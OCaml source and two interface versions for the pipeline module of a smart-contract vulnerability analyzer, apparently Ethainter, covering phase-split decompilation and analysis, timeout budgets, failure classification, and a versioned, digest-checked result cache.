    elapsed_s = 0.0; timed_out = false; error = None; error_kind = None;
    deps = conservative_deps }

(* The storage footprint of a successful analysis: every slot class
   read by any guard slice, deduplicated and sorted for a canonical
   encoding. *)
let deps_of_facts (facts : Facts.t) : deps =
  let slots : (U.t, unit) Hashtbl.t = Hashtbl.create 8 in
  let roots : (U.t, unit) Hashtbl.t = Hashtbl.create 8 in
  let unknown = ref false in
  Hashtbl.iter
    (fun _ gs ->
      List.iter
        (fun (g : Facts.guard) ->
          List.iter
            (fun (_, cls) ->
              match cls with
              | Facts.SConst c -> Hashtbl.replace slots c ()
              | Facts.SData b -> Hashtbl.replace roots b ()
              | Facts.SUnknown -> unknown := true)
            (Facts.guard_storage_reads facts g.Facts.g_cond))
        gs)
    facts.Facts.known_true;
  let sorted h =
    Hashtbl.fold (fun k () acc -> k :: acc) h [] |> List.sort U.compare
  in
  { dep_slots = sorted slots; dep_roots = sorted roots;
    dep_unknown = !unknown }

(* The exceptions a malformed contract is expected to produce while
   being decompiled and analyzed. Anything else — Out_of_memory,
   Stack_overflow, Assert_failure, ... — is a bug or a resource
   failure and must propagate to the caller (the scheduler isolates it
   per contract). *)
let expected_failure = function
  | Ethainter_evm.Interp.Evm_error _
  | Ethainter_evm.Bytecode.Asm_error _
  | Ethainter_datalog.Datalog.Datalog_error _
  | Invalid_argument _ | Failure _ | Not_found -> true
  | _ -> false

(* ------------------------------------------------------------------ *)
(* The two analysis phases                                             *)
(* ------------------------------------------------------------------ *)

(* The pipeline is split where the config dependence begins. The
   front end (decompile → Facts.compute) sees only the bytecode: its
   artifact can be shared by every ablation config, which is what lets
   the Fig. 8 four-config sweep decompile each contract exactly once.
   The back end (fixpoint + detectors) is the only part that reruns
   per config. *)

type frontend = {
  fe_facts : (Facts.t, error_kind * string) Stdlib.result;
      (* Error = deterministic decompile/facts failure for this
         bytecode — cached like any other artifact *)
  fe_tac_loc : int;
  fe_blocks : int;
  fe_elapsed_s : float;  (* front-end cost, charged against the budget
                            of every request that reuses the artifact *)
}

(* Phase 1. [Error r] is a mid-phase timeout: [r] is the final
   timed-out result, carrying the real elapsed time and whatever phase
   stats were completed — it depends on wall clock, so it is never
   cached. [timeout_s] is the paper's cutoff, enforced two ways: a
   {!Deadline} installed for the whole phase cuts the decompiler
   worklist (and any Datalog evaluation inside fact extraction)
   mid-loop, and the cheap [over] checks at phase boundaries catch the
   degenerate budgets (e.g. 0) that expire before the first poll. *)
let compute_frontend ~(timeout_s : float) (runtime : string) :
    (frontend, result) Stdlib.result =
  let t0 = Unix.gettimeofday () in
  let elapsed () = Unix.gettimeofday () -. t0 in
  let over () = elapsed () > timeout_s in
  Deadline.with_deadline (t0 +. timeout_s) @@ fun () ->
  match Ethainter_tac.Decomp.decompile runtime with
  | exception Deadline.Expired ->
      Error { empty_result with elapsed_s = elapsed (); timed_out = true;
              error_kind = Some Timeout }
  | exception e when expected_failure e ->
      Ok { fe_facts = Error (Decompile, Printexc.to_string e);
           fe_tac_loc = 0; fe_blocks = 0; fe_elapsed_s = elapsed () }
  | p ->
      let fe_tac_loc = Ethainter_tac.Tac.loc p in
      let fe_blocks = List.length (Ethainter_tac.Tac.blocks p) in
      let timed_out () =
        Error { empty_result with tac_loc = fe_tac_loc; blocks = fe_blocks;
                elapsed_s = elapsed (); timed_out = true;
                error_kind = Some Timeout }
      in
      if over () then timed_out ()
      else
        match Facts.compute p with
        | exception Deadline.Expired -> timed_out ()
        | exception e when expected_failure e ->
            Ok { fe_facts = Error (Analysis, Printexc.to_string e);
                 fe_tac_loc; fe_blocks; fe_elapsed_s = elapsed () }
        | facts ->
            if over () then timed_out ()
            else
              Ok { fe_facts = Ok facts; fe_tac_loc; fe_blocks;
                   fe_elapsed_s = elapsed () }

(* Phase 2: fixpoint + detectors under [cfg]. The artifact may be
   shared by concurrent domains (it comes out of the front-end cache),
   so this phase must not mutate it — see Facts.slice_of. The
   result's [elapsed_s] is the *sum* of the front end's recorded cost
   and the back-end run, so budget accounting holds even when the
   front end was a cache hit. *)
(* [timeout_s] is the request's whole-pipeline budget: the back end
   gets what the front end left of it ([timeout_s - fe_elapsed_s]),
   enforced by a {!Deadline} inside the fixpoint/detector loops — so a
   pathological fixpoint on a cached artifact still returns within the
   budget. [None] (the bench harness measuring raw phase cost) runs
   unbounded, as before. *)
let backend ~(cfg : Config.t) ?(timeout_s : float option) (fe : frontend) :
    result =
  match fe.fe_facts with
  | Error (kind, msg) ->
      { empty_result with tac_loc = fe.fe_tac_loc; blocks = fe.fe_blocks;
        elapsed_s = fe.fe_elapsed_s; error = Some msg;
        error_kind = Some kind }
  | Ok facts -> (
      let t0 = Unix.gettimeofday () in
      let run_phase () =
        match
          let a = Analysis.run ~cfg facts in
          (a, Analysis.detect a)
        with
        | exception Deadline.Expired ->
            (* mid-fixpoint (or mid-detector) expiry: a final result
               with real elapsed time and the completed front-end
               stats; wall-clock dependent, so never cached *)
            { empty_result with tac_loc = fe.fe_tac_loc;
              blocks = fe.fe_blocks;
              elapsed_s = fe.fe_elapsed_s +. (Unix.gettimeofday () -. t0);
              timed_out = true; error_kind = Some Timeout }
        | exception e when expected_failure e ->
            { empty_result with tac_loc = fe.fe_tac_loc;
              blocks = fe.fe_blocks;
              elapsed_s = fe.fe_elapsed_s +. (Unix.gettimeofday () -. t0);
              error = Some (Printexc.to_string e);
              error_kind = Some Analysis }
        | a, reports ->
            { reports; tac_loc = fe.fe_tac_loc; blocks = fe.fe_blocks;
              analysis_rounds = a.Analysis.rounds;
              elapsed_s = fe.fe_elapsed_s +. (Unix.gettimeofday () -. t0);
              timed_out = false; error = None; error_kind = None;
              (* the analysis completed, so the footprint is precise;
                 any stray failure here degrades to the conservative
                 footprint rather than losing the verdict *)
              deps = (try deps_of_facts facts with _ -> conservative_deps) }
      in
      match timeout_s with
      | None -> run_phase ()
      | Some budget ->
          Deadline.with_deadline (t0 +. (budget -. fe.fe_elapsed_s))
            run_phase)

(* The uncached analysis is the two phases composed under one
   budget. *)
let analyze_uncached ~(cfg : Config.t) ~(timeout_s : float)
    (runtime : string) : result =
  match compute_frontend ~timeout_s runtime with
  | Error timed_out -> timed_out
  | Ok fe -> backend ~cfg ~timeout_s fe

(* ------------------------------------------------------------------ *)
(* Result codec (disk-tier serialization)                              *)
(* ------------------------------------------------------------------ *)

(* A versioned, self-validating text format: a keccak digest line over
   the whole body, a header line, the scalar fields, then
   length-prefixed strings for the fields that may contain arbitrary
   bytes (error messages, report notes). [decode_result] is total —
   any deviation is [None], which the cache treats as a miss.

   v2 added the digest (and the error-kind token). The digest is what
   makes silent disk corruption — a flipped bit that still parses —
   impossible to serve: without it, a damaged numeric field could
   decode into a plausible but wrong result. The chaos suite's
   [corrupt] injection drives exactly that path.

   v3 adds the [deps] line (the verdict's storage footprint, consumed
   by the streaming index's invalidation logic). *)

let codec_magic = "ethainter.result.v3"

let digest_hex body =
  Ethainter_word.Hex.encode (Ethainter_crypto.Keccak.hash body)

let encode_result (r : result) : string =
  let b = Buffer.create 256 in
  Buffer.add_string b codec_magic;
  Buffer.add_char b '\n';
  Printf.bprintf b "meta %d %d %d %h %b %s\n" r.tac_loc r.blocks
    r.analysis_rounds r.elapsed_s r.timed_out
    (match r.error_kind with None -> "-" | Some k -> error_kind_id k);
  Printf.bprintf b "deps %b %d %d" r.deps.dep_unknown
    (List.length r.deps.dep_slots)
    (List.length r.deps.dep_roots);
  List.iter (fun s -> Printf.bprintf b " %s" (U.to_hex s)) r.deps.dep_slots;
  List.iter (fun s -> Printf.bprintf b " %s" (U.to_hex s)) r.deps.dep_roots;
  Buffer.add_char b '\n';
  (match r.error with
  | None -> Buffer.add_string b "error -1\n"
  | Some e -> Printf.bprintf b "error %d\n%s\n" (String.length e) e);
  Printf.bprintf b "reports %d\n" (List.length r.reports);
  List.iter
    (fun (rep : Vulns.report) ->
      Printf.bprintf b "report %s %d %d %b %b %d\n%s\n"
        (Vulns.kind_id rep.Vulns.r_kind)
        rep.Vulns.r_pc rep.Vulns.r_block rep.Vulns.r_orphan
        rep.Vulns.r_composite
        (String.length rep.Vulns.r_note)
        rep.Vulns.r_note)
    r.reports;
  let body = Buffer.contents b in
  digest_hex body ^ "\n" ^ body

let decode_result (s : string) : result option =
  let pos = ref 0 in
  let fail () = raise Exit in
  let line () =
    match String.index_from_opt s !pos '\n' with
    | None -> fail ()
    | Some i ->
        let l = String.sub s !pos (i - !pos) in
        pos := i + 1;
        l
  in
  (* an [n]-byte string followed by its terminating newline *)
  let sized n =
    if n < 0 || !pos + n + 1 > String.length s then fail ();
    let x = String.sub s !pos n in
    if s.[!pos + n] <> '\n' then fail ();
    pos := !pos + n + 1;
    x
  in
  let words l = String.split_on_char ' ' l in
  let int_of w = match int_of_string_opt w with Some n -> n | None -> fail () in
  let float_of w =
    match float_of_string_opt w with Some f -> f | None -> fail ()
  in
  let bool_of w = match bool_of_string_opt w with Some x -> x | None -> fail () in
  try
    (* digest first: everything after the first newline must hash to
       the first line, or the entry is corrupt *)
    let digest = line () in
    let body = String.sub s !pos (String.length s - !pos) in
    if digest <> digest_hex body then fail ();
    if line () <> codec_magic then fail ();
    let tac_loc, blocks, analysis_rounds, elapsed_s, timed_out, error_kind =
      match words (line ()) with
      | [ "meta"; a; b; c; d; e; k ] ->
          let kind =
            if k = "-" then None
            else
              match error_kind_of_id k with
              | Some _ as ek -> ek
              | None -> fail ()
          in
          (int_of a, int_of b, int_of c, float_of d, bool_of e, kind)
      | _ -> fail ()
    in
    let deps =
      match words (line ()) with
      | "deps" :: u :: ns :: nr :: rest ->
          let u = bool_of u and ns = int_of ns and nr = int_of nr in
          if ns < 0 || nr < 0 || List.length rest <> ns + nr then fail ();
          let ws =
            List.map
              (fun w -> try U.of_hex w with _ -> fail ())
              rest
          in
          let rec split n l =
            if n = 0 then ([], l)
            else
              match l with
              | x :: tl ->
                  let a, b = split (n - 1) tl in
                  (x :: a, b)
              | [] -> fail ()
          in
          let dep_slots, dep_roots = split ns ws in
          { dep_slots; dep_roots; dep_unknown = u }
      | _ -> fail ()
    in
    let error =
      match words (line ()) with
      | [ "error"; "-1" ] -> None
      | [ "error"; n ] -> Some (sized (int_of n))
      | _ -> fail ()
    in
    let nreports =
      match words (line ()) with
      | [ "reports"; n ] -> int_of n
      | _ -> fail ()
    in
    if nreports < 0 then fail ();
    let reports =
      List.init nreports (fun _ ->
          match words (line ()) with
          | [ "report"; kid; pc; block; orphan; composite; notelen ] ->
              let r_kind =
                match Vulns.kind_of_id kid with
                | Some k -> k
                | None -> fail ()
              in
              { Vulns.r_kind; r_pc = int_of pc; r_block = int_of block;
                r_orphan = bool_of orphan; r_composite = bool_of composite;
                r_note = sized (int_of notelen) }
          | _ -> fail ())
    in
    if !pos <> String.length s then fail ();
    Some { reports; tac_loc; blocks; analysis_rounds; elapsed_s; timed_out;
           error; error_kind; deps }
  with _ -> None

(* ------------------------------------------------------------------ *)
(* Front-end artifact codec (disk-tier serialization)                  *)
(* ------------------------------------------------------------------ *)

(* The artifact is a deep object graph (TAC program + fact tables,
   with internal sharing) for which a hand-rolled field codec would be
   both large and slow, so the payload is [Marshal] output — guarded,
   because unmarshalling arbitrary bytes is unsafe, by a header that
   must fully validate first: magic+version, the compiler version
   (Marshal's format is build-dependent), the payload length and a
   keccak digest of the payload. Any deviation is [None] (a cache
   miss); [Marshal.from_string] only ever sees byte-identical payloads
   of our own [encode_frontend]. *)

let frontend_magic = "ethainter.frontend.v2"

let encode_frontend (fe : frontend) : string =
  let payload = Marshal.to_string fe [] in
  Printf.sprintf "%s %s %d %s\n%s" frontend_magic Sys.ocaml_version
    (String.length payload)
    (Ethainter_word.Hex.encode (Ethainter_crypto.Keccak.hash payload))
    payload

let decode_frontend (s : string) : frontend option =
  match String.index_opt s '\n' with
  | None -> None
  | Some i -> (
      let header = String.sub s 0 i in
      let payload = String.sub s (i + 1) (String.length s - i - 1) in
      match String.split_on_char ' ' header with
      | [ magic; compiler; len; digest ]
        when magic = frontend_magic
             && compiler = Sys.ocaml_version
             && int_of_string_opt len = Some (String.length payload)
             && digest
                = Ethainter_word.Hex.encode
                    (Ethainter_crypto.Keccak.hash payload) -> (
          try Some (Marshal.from_string payload 0 : frontend)
          with _ -> None)
      | _ -> None)

(* ------------------------------------------------------------------ *)
(* The process-wide phase-split cache                                  *)
(* ------------------------------------------------------------------ *)

(* Stamped into every cache key (front- and back-end): bump on any
   change to decompilation, facts, the fixpoint or the detectors.
   "6" = results gained the storage-dependency footprint (codec v3);
   older entries lack it and must miss.
   "7" = Uint256 switched to int-limb representation; marshalled
   payloads embedding the old boxed-int64 record layout must miss. *)
let analysis_version = "7"

(* The front-end key's stand-in for a config fingerprint: the front
   end does not depend on any ablation switch, so its entries are
   keyed by [keccak(bytecode) × analysis_version] only. The constant
   is distinct from every [Config.fingerprint] (those are
   "cfg:..."-prefixed), so the two key spaces cannot collide even
   though both tiers share one directory. *)
let frontend_fingerprint = "frontend"

let cache_capacity_default = 8192

(* Lazily created so [set_cache_dir] / env vars take effect before the
   first analysis; the mutex makes first-use from concurrent scheduler
   domains safe. [cache_on] is read on every request from every
   scheduler domain without the mutex, hence Atomic; [cache_dir_ref]
   by contrast is only ever touched with [cache_mu] held. *)
let cache_mu = Mutex.create ()
let cache_on = Atomic.make (Sys.getenv_opt "ETHAINTER_NO_CACHE" = None)
let cache_dir_ref = ref (Sys.getenv_opt "ETHAINTER_CACHE_DIR")
let caches_ref : (frontend Cache.t * result Cache.t) option ref = ref None

let with_cache_mu f =
  Mutex.lock cache_mu;
  Fun.protect ~finally:(fun () -> Mutex.unlock cache_mu) f

(* Two cache instances — config-independent front-end artifacts
   ([*.fe] disk entries) and per-config back-end results ([*.cache]) —
   sharing one directory and one capacity knob. *)
let caches () =
  with_cache_mu (fun () ->
      match !caches_ref with
      | Some c -> c
      | None ->
          let capacity =
            match Sys.getenv_opt "ETHAINTER_CACHE_CAPACITY" with
            | Some s -> (
                match int_of_string_opt (String.trim s) with
                | Some n when n >= 1 -> n
                | _ -> cache_capacity_default)
            | None -> cache_capacity_default
          in
          let dir = !cache_dir_ref in
          let c =
            ( Cache.create ~capacity ?dir ~ext:"fe"
                ~encode:encode_frontend ~decode:decode_frontend (),
              Cache.create ~capacity ?dir
                ~encode:encode_result ~decode:decode_result () )
          in
          caches_ref := Some c;
          c)

let frontend_cache () = fst (caches ())
let result_cache () = snd (caches ())

let cache_enabled () = Atomic.get cache_on
let set_cache_enabled b = Atomic.set cache_on b

let set_cache_dir d =
  with_cache_mu (fun () ->
      cache_dir_ref := d;
      caches_ref := None)

let cache_stats () = Cache.stats (result_cache ())
let frontend_cache_stats () = Cache.stats (frontend_cache ())

(* Health probe: has either tier's disk side been switched off after
   repeated I/O failures? Reads the lazily-created instances without
   forcing them — before the first analysis nothing can be degraded. *)
let disk_cache_degraded () =
  match with_cache_mu (fun () -> !caches_ref) with
  | None -> false
  | Some (fe, be) -> Cache.disk_degraded fe || Cache.disk_degraded be

let cache_clear () =
  Cache.clear (frontend_cache ());
  Cache.clear (result_cache ())

(* Daemon-start hook: force both cache instances (and the disk tier's
   stale-tmp sweep) to exist now, on the caller's schedule, instead of
   lazily under the first request's latency. *)
let prewarm () = ignore (caches ())

let pp_cache_stats fmt () =
  Format.fprintf fmt "front-end %a@\nback-end %a"
    Cache.pp_stats (frontend_cache_stats ())
    Cache.pp_stats (cache_stats ())

(* ------------------------------------------------------------------ *)
(* Requests                                                            *)
(* ------------------------------------------------------------------ *)

type input = Runtime of string | Hex of string

type request = {
  code : input;
  cfg : Config.t;
  timeout_s : float;
}

let request ?(cfg = Config.default) ?(timeout_s = 120.0) code =
  { code; cfg; timeout_s }

let resolve_input = function
  | Runtime code -> Ok code
  | Hex hex -> (
      match Ethainter_word.Hex.decode (String.trim hex) with
      | code -> Ok code
      | exception Invalid_argument msg -> Error msg)

let backend_key ~(cfg : Config.t) (runtime : string) : string =
  Cache.key ~version:analysis_version
    ~fingerprint:(Config.fingerprint cfg) runtime

(* Streaming invalidation: the analysis is pure in the bytecode, so a
   changed on-chain fact (say, a rotated admin key) never changes the
   verdict's content — but a consumer that must *prove* its verdict
   current (the streaming index's contract) invalidates the back-end
   entry and re-runs, making the recomputation observable as a genuine
   back-end miss while the front-end artifact still hits. *)
let invalidate_backend ?(cfg = Config.default) (runtime : string) : unit =
  if cache_enabled () then
    Cache.remove (result_cache ()) (backend_key ~cfg runtime)

let run (req : request) : result =
  match resolve_input req.code with
  | Error msg ->
      { empty_result with error = Some msg; error_kind = Some Decode }
  | Ok runtime ->
      (* Bind this domain's fault-injection context to the request so
         any injected faults fire at per-contract-deterministic
         points (a no-op unless ETHAINTER_FAULTS is armed). *)
      Fault.set_context ~key:runtime;
      if not (cache_enabled ()) then
        analyze_uncached ~cfg:req.cfg ~timeout_s:req.timeout_s runtime
      else
        let fe_cache, res_cache = caches () in
        let res_key = backend_key ~cfg:req.cfg runtime in
        (* A back-end hit is only valid if this request's budget
           exceeds the recorded total (front-end + back-end) cost — a
           tighter budget might have timed out, and the timeout tests
           rely on that. An entry refused here counts as [rejected],
           not a hit: we are about to recompute. *)
        match
          Cache.find_valid res_cache res_key
            ~valid:(fun r -> r.elapsed_s < req.timeout_s)
        with
        | Some r -> r
        | None -> (
            let fe_key =
              Cache.key ~version:analysis_version
                ~fingerprint:frontend_fingerprint runtime
            in
            (* A front-end hit stands in for actually running the
               front end, so its recorded cost must itself fit the
               budget (an uncached run would have timed out right
               after this phase otherwise). *)
            let fe =
              match
                Cache.find_valid fe_cache fe_key
                  ~valid:(fun fe -> fe.fe_elapsed_s <= req.timeout_s)
              with
              | Some fe -> Ok fe
              | None -> (
                  match
                    compute_frontend ~timeout_s:req.timeout_s runtime
                  with
                  | Ok fe ->
                      Cache.add fe_cache fe_key fe;
                      Ok fe
                  | Error _ as timed_out ->
                      (* mid-front-end timeout: wall-clock dependent,
                         never cached *)
                      timed_out)
            in
            match fe with
            | Error timed_out -> timed_out
            | Ok fe ->
                let r = backend ~cfg:req.cfg ~timeout_s:req.timeout_s fe in
                (* Timed-out results depend on wall-clock and machine
                   load, not content — never cache them. *)
                if not r.timed_out then Cache.add res_cache res_key r;
                r)

let flagged_kinds (r : result) : Vulns.kind list =
  List.sort_uniq compare (List.map (fun x -> x.Vulns.r_kind) r.reports)

let flags (r : result) (k : Vulns.kind) : bool =
  List.exists (fun x -> x.Vulns.r_kind = k) r.reports
