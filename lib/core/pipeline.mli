(** End-to-end analysis pipeline: bytecode → decompile → facts →
    fixpoint → reports. The per-contract unit of work the paper runs
    over the whole blockchain (§6: combined 120 s cutoff for
    decompilation plus the information-flow analysis).

    {!run} on a {!request} is the {e single} entry point every caller
    (scheduler, experiments, CLIs, bench) goes through; it is where the
    content-addressed {!Cache} key — [(keccak bytecode,
    Config.fingerprint, analysis version)] — is derived, so memoization
    is transparent and uniform. *)

type result = {
  reports : Vulns.report list;
  tac_loc : int;          (** 3-address statements (the paper's corpus unit) *)
  blocks : int;
  analysis_rounds : int;  (** fixpoint rounds taken *)
  elapsed_s : float;
  timed_out : bool;
  error : string option;  (** per-contract failure, if any *)
}

val empty_result : result

(** {1 Analysis requests} *)

type input =
  | Runtime of string  (** raw runtime bytecode *)
  | Hex of string
      (** hex-encoded runtime bytecode (the format of blockchain
          dumps); [0x] prefix and whitespace tolerated. Malformed hex
          (odd digit count, bad characters) is a clean per-contract
          failure — {!run} returns a result with [error] set, it never
          raises. *)

type request = {
  code : input;
  cfg : Config.t;
  timeout_s : float;
}

val request : ?cfg:Config.t -> ?timeout_s:float -> input -> request
(** Smart constructor; [cfg] defaults to {!Config.default}, [timeout_s]
    to the paper's 120 s cutoff. *)

val resolve_input : input -> (string, string) Stdlib.result
(** Runtime bytecode of an input, or a decode-error message. *)

val run : request -> result
(** Analyze one contract. On expiry of [timeout_s] the result carries
    [timed_out = true] and no reports. Expected decompile/analysis
    exceptions from malformed bytecode are contained and recorded in
    [error]; asynchronous/fatal exceptions ([Out_of_memory],
    [Stack_overflow], [Assert_failure], ...) propagate — the
    {!Scheduler} isolates those per contract.

    When caching is enabled (the default), the result is memoized in
    the process-wide {!Cache} keyed by
    [(keccak bytecode, Config.fingerprint cfg, analysis_version)].
    A cached result is only served to a request whose [timeout_s]
    exceeds the cached [elapsed_s] (a budget that tight might have
    timed out), and timed-out results are never cached — so caching is
    observationally transparent. *)

val analyze_runtime :
  ?cfg:Config.t -> ?timeout_s:float -> string -> result
(** Deprecated: thin wrapper for [run (request (Runtime code))]. *)

val analyze_hex : ?cfg:Config.t -> ?timeout_s:float -> string -> result
(** Deprecated: thin wrapper for [run (request (Hex hex))]. *)

val flagged_kinds : result -> Vulns.kind list
(** Distinct vulnerability kinds present in the reports, sorted. *)

val flags : result -> Vulns.kind -> bool
(** Is any report of this kind present? *)

(** {1 The process-wide result cache}

    One cache instance per process, shared by every scheduler domain.
    Configured from the environment at first use — [ETHAINTER_CACHE_DIR]
    (disk tier), [ETHAINTER_CACHE_CAPACITY] (memory-tier LRU bound),
    [ETHAINTER_NO_CACHE] (start disabled) — and overridable
    programmatically (the CLIs' [--no-cache] / [--cache-dir]). *)

val analysis_version : string
(** Stamped into every cache key; bump on any change to decompilation,
    fact generation, the fixpoint or the detectors, so stale disk
    entries from older builds become misses. *)

val cache_enabled : unit -> bool
val set_cache_enabled : bool -> unit
val set_cache_dir : string option -> unit
(** Enable ([Some dir]) or disable ([None]) the disk tier; resets the
    in-memory tier. *)

val cache_stats : unit -> Cache.stats
val cache_clear : unit -> unit
(** Drop all in-memory entries and reset counters (disk entries are
    kept). *)

(** {1 Result codec}

    The disk tier's versioned serialization. Total: [decode_result]
    returns [None] on any corrupt, truncated or old-version payload
    (exposed for the cache tests and the bench differential check). *)

val encode_result : result -> string
val decode_result : string -> result option
