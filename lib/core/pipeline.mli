(** End-to-end analysis pipeline: bytecode → decompile → facts →
    fixpoint → reports. The per-contract unit of work the paper runs
    over the whole blockchain (§6: combined 120 s cutoff for
    decompilation plus the information-flow analysis).

    {!run} on a {!request} is the {e single} entry point every caller
    (scheduler, experiments, CLIs, bench) goes through; it is where the
    content-addressed {!Cache} keys are derived, so memoization is
    transparent and uniform.

    The pipeline is {b phase-split} where config dependence begins:

    - the {b front end} — decompile → {!Facts.compute} — depends only
      on the bytecode, and its artifact is cached under
      [(keccak bytecode, "frontend", analysis_version)];
    - the {b back end} — fixpoint + detectors — depends on the
      {!Config}, and its result is cached under
      [(keccak bytecode, Config.fingerprint, analysis_version)].

    An ablation sweep that analyzes one corpus under several configs
    (the Fig. 8 experiments) therefore decompiles and extracts facts
    for each contract exactly once, rerunning only the fixpoint per
    config. *)

(** Coarse classification of a per-contract failure, for corpus
    reports that must distinguish budget exhaustion from hostile
    bytecode from machine trouble:
    - [Timeout] — the {!Deadline} (or a phase-boundary check) cut the
      analysis; always paired with [timed_out = true];
    - [Decode] — the input was not valid hex;
    - [Decompile] — the decompiler rejected the bytecode;
    - [Analysis] — fact extraction / fixpoint / detectors failed
      deterministically on this contract;
    - [Io] — a transient environment failure (disk, injected fault);
      the {!Scheduler} retries these once;
    - [Fatal] — a resource or logic failure ([Out_of_memory],
      [Stack_overflow], unexpected exceptions). *)
type error_kind = Timeout | Decode | Decompile | Analysis | Io | Fatal

val error_kind_id : error_kind -> string
(** Stable lower-case token (["timeout"], ["io"], ...) used by the
    codec and the CLIs. *)

val error_kind_of_id : string -> error_kind option

(** The on-chain facts a verdict consumed — its {e storage footprint}.
    The analysis reads chain state only through guard slices
    ([require(msg.sender == owner)], [admins\[msg.sender\]], ...), so
    the slots those slices load are everything a later block could
    change to make the verdict stale. The streaming index matches a
    block's storage writes against this record to compute its dirty
    set. *)
type deps = {
  dep_slots : Ethainter_word.Uint256.t list;
      (** constant storage slots read in guard slices, sorted,
          deduplicated *)
  dep_roots : Ethainter_word.Uint256.t list;
      (** data-structure root slots (mappings/arrays) whose members a
          guard slice reads — a write to {e any} hash-derived member
          address may change the guard's meaning, so the whole root is
          a dependency *)
  dep_unknown : bool;
      (** some guard read a statically-unresolved slot: any storage
          write to this contract may invalidate the verdict *)
}

val conservative_deps : deps
(** The footprint of a verdict that did not run to completion
    (failures, timeouts): [dep_unknown = true], so any write
    re-queues it. *)

type result = {
  reports : Vulns.report list;
  tac_loc : int;          (** 3-address statements (the paper's corpus unit) *)
  blocks : int;
  analysis_rounds : int;  (** fixpoint rounds taken *)
  elapsed_s : float;
  timed_out : bool;
  error : string option;  (** per-contract failure, if any *)
  error_kind : error_kind option;
      (** classification of the failure; [Some Timeout] iff
          [timed_out] *)
  deps : deps;
      (** storage footprint of the verdict;
          {!conservative_deps} unless the analysis completed *)
}

val empty_result : result

(** {1 Analysis requests} *)

type input =
  | Runtime of string  (** raw runtime bytecode *)
  | Hex of string
      (** hex-encoded runtime bytecode (the format of blockchain
          dumps); [0x] prefix and whitespace tolerated. Malformed hex
          (odd digit count, bad characters) is a clean per-contract
          failure — {!run} returns a result with [error] set, it never
          raises. *)

type request = {
  code : input;
  cfg : Config.t;
  timeout_s : float;
}

val request : ?cfg:Config.t -> ?timeout_s:float -> input -> request
(** Smart constructor; [cfg] defaults to {!Config.default}, [timeout_s]
    to the paper's 120 s cutoff. *)

val resolve_input : input -> (string, string) Stdlib.result
(** Runtime bytecode of an input, or a decode-error message. *)

val run : request -> result
(** Analyze one contract. On expiry of [timeout_s] the result carries
    [timed_out = true], no reports, the {e real} elapsed time, and the
    stats of every phase that completed (e.g. [tac_loc]/[blocks] when
    decompilation finished before the cutoff). Expected
    decompile/analysis exceptions from malformed bytecode are
    contained and recorded in [error]; asynchronous/fatal exceptions
    ([Out_of_memory], [Stack_overflow], [Assert_failure], ...)
    propagate — the {!Scheduler} isolates those per contract.

    When caching is enabled (the default), both phases are memoized in
    the process-wide phase-split {!Cache} (see the module preamble for
    the key scheme). Budget accounting covers the {e sum} of phases: a
    back-end entry records front-end + back-end cost in [elapsed_s]
    and is only served to a request whose [timeout_s] exceeds it; a
    front-end artifact likewise only stands in for the front end when
    its recorded cost fits the budget (an entry refused on those
    grounds is counted as [rejected], not as a hit). Timed-out results
    are never cached — so caching is observationally transparent. *)

val flagged_kinds : result -> Vulns.kind list
(** Distinct vulnerability kinds present in the reports, sorted. *)

val flags : result -> Vulns.kind -> bool
(** Is any report of this kind present? *)

(** {1 The analysis phases}

    Exposed for the phase-split tests and the bench harness; ordinary
    callers go through {!run}, which composes them (and caches each). *)

type frontend = {
  fe_facts : (Facts.t, error_kind * string) Stdlib.result;
      (** [Error (kind, msg)] = deterministic decompile/facts failure
          for this bytecode (cached like any other artifact) *)
  fe_tac_loc : int;
  fe_blocks : int;
  fe_elapsed_s : float;
      (** front-end cost, charged against the budget of every request
          that reuses the artifact *)
}
(** The config-independent front-end artifact: TAC program stats plus
    the fact database ({!Facts.t}, which carries the program). *)

val compute_frontend :
  timeout_s:float -> string -> (frontend, result) Stdlib.result
(** Decompile and extract facts under a {!Deadline} of [timeout_s]:
    the cutoff is enforced {e inside} the decompiler worklist, not
    just at phase boundaries. [Error r] is a mid-phase timeout; [r] is
    the final (never cached) timed-out result with real elapsed time
    and completed phase stats. *)

val backend : cfg:Config.t -> ?timeout_s:float -> frontend -> result
(** Fixpoint + detectors on an artifact. Never mutates the artifact —
    it may be shared by concurrent scheduler domains. The result's
    [elapsed_s] is [fe_elapsed_s] {e plus} the back-end run time.
    [timeout_s] is the request's whole-pipeline budget: the phase runs
    under a {!Deadline} of what the front end left of it, so a
    pathological fixpoint returns a [timed_out] result (with the
    front-end stats intact) instead of running unbounded. Omitting it
    runs unbounded (the bench harness measuring raw phase cost). *)

(** {1 The process-wide phase-split cache}

    Two cache instances per process — front-end artifacts and back-end
    results — shared by every scheduler domain and, when the disk tier
    is enabled, sharing one directory ([*.fe] / [*.cache] entries).
    Configured from the environment at first use —
    [ETHAINTER_CACHE_DIR] (disk tier), [ETHAINTER_CACHE_CAPACITY]
    (memory-tier LRU bound per instance), [ETHAINTER_NO_CACHE] (start
    disabled) — and overridable programmatically (the CLIs'
    [--no-cache] / [--cache-dir]). *)

val analysis_version : string
(** Stamped into every cache key (both phases); bump on any change to
    decompilation, fact generation, the fixpoint or the detectors, so
    stale disk entries from older builds become misses. *)

val cache_enabled : unit -> bool
val set_cache_enabled : bool -> unit
val set_cache_dir : string option -> unit
(** Enable ([Some dir]) or disable ([None]) the disk tier; resets the
    in-memory tiers. *)

val cache_stats : unit -> Cache.stats
(** Back-end (result) cache counters. *)

val frontend_cache_stats : unit -> Cache.stats
(** Front-end (artifact) cache counters — in a multi-config sweep the
    miss count here is the number of decompilation+facts passes
    actually performed. *)

val cache_clear : unit -> unit
(** Drop all in-memory entries of both tiers and reset counters (disk
    entries are kept). *)

val disk_cache_degraded : unit -> bool
(** True iff either cache instance's disk tier has been switched off
    after repeated I/O failures ({!Cache.disk_degraded}) — the daemon
    reports this as [Degraded] on its health endpoint. False when no
    disk tier is configured or the caches have not been created yet. *)

val invalidate_backend : ?cfg:Config.t -> string -> unit
(** [invalidate_backend ~cfg runtime] forgets the cached {e back-end}
    result for this bytecode under this config (both tiers, disk entry
    deleted) — the front-end artifact is untouched. The analysis is
    pure in the bytecode, so this never changes what {!run} returns;
    it forces the next {!run} to genuinely re-execute the fixpoint and
    detectors, which is how the streaming index turns "an on-chain
    fact this verdict consumed changed" into a fresh, provably-current
    verdict (observable as a back-end miss next to a front-end hit in
    the telemetry). [cfg] defaults to {!Config.default}. *)

val prewarm : unit -> unit
(** Force both cache instances to be created now (reading the
    environment knobs, sweeping stale disk-tier temp files) rather
    than lazily under the first request — the daemon calls this before
    accepting traffic so request one pays analysis cost only. *)

